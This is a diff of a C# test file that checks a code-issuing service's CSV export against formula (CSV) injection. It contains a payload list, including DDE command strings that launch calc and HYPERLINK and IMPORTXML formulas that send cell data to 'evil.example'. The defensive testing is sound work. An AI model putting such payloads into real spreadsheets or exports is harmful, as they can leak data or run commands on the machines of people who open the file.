@@ -9,27 +9,30 @@ public sealed class CsvTests(AzuriteFixture azurite)
     private const string Columns = "id,code,registrationUrl,redeemableUntil,language,reference,test";
 
     /// <summary>What could run, link or break something in a spreadsheet (OWASP's CSV injection page and what spreadsheets take for a formula).</summary>
-    public static TheoryData<string> Payloads => new(
+    private static readonly string[] Payloads =
+    [
         "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
         " =1+1", "\u00A0=1+1", "|calc", "%0A=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=IMPORTXML(\"http://evil.example\",\"//a\")",
-        "\",=1+1,\"", "a\";=1+1", ";=1+1", ",=1+1", "'=1+1", "\"", "\"\"", ",", "''");
+        "\",=1+1,\"", "a\";=1+1", ";=1+1", "a; =1+1;b", "a;\"=1+1\"", "a,+1", "x|=1", ",=1+1", "'=1+1", "\"", "\"\"", ",", "''",
+    ];
 
     public static TheoryData<string> Texts => new("Genève, Zürich, «Ligne 2»", "Dossier 17", "ça \"va\"", "œuvre – été", "日本", "0012", "1;2", "O'Neil");
 
-    [Theory]
-    [MemberData(nameof(Payloads))]
-    public async Task No_cell_of_a_CSV_file_is_a_formula(string reference)
+    [Fact]
+    public async Task No_reference_is_a_formula_in_a_CSV_file()
     {
         await using var app = await TestApp.StartAsync(azurite);
         var office = await Office.NewAsync(app);
+        foreach (var reference in Payloads)
+        {
+            var answer = await office.IssueAsync(new { count = 1, reference }, "text/csv");
 
-        var answer = await office.IssueAsync(new { count = 1, reference }, "text/csv");
-
-        var rows = Csv.Parse(answer.Body.TrimStart('\uFEFF'));
-        Assert.Equal(Columns.Split(','), rows[0]);
-        Assert.Equal(7, rows[1].Count);
-        Assert.All(rows[1].Where(cell => cell.Length > 0), cell => Assert.DoesNotContain(cell.TrimStart()[0], "=+-@|%＝＋－＠"));
-        Assert.EndsWith(reference, rows[1][5], StringComparison.Ordinal);
+            var rows = Csv.Parse(answer.Body.TrimStart('\uFEFF'));
+            Assert.Equal(Columns.Split(','), rows[0]);
+            Assert.Equal(7, rows[1].Count);
+            Assert.Empty(Spreadsheet.FormulasIn(answer.Body));
+            Assert.Equal(reference.Replace("'", "", StringComparison.Ordinal), rows[1][5].Replace("'", "", StringComparison.Ordinal));
+        }
     }
 
     [Theory]
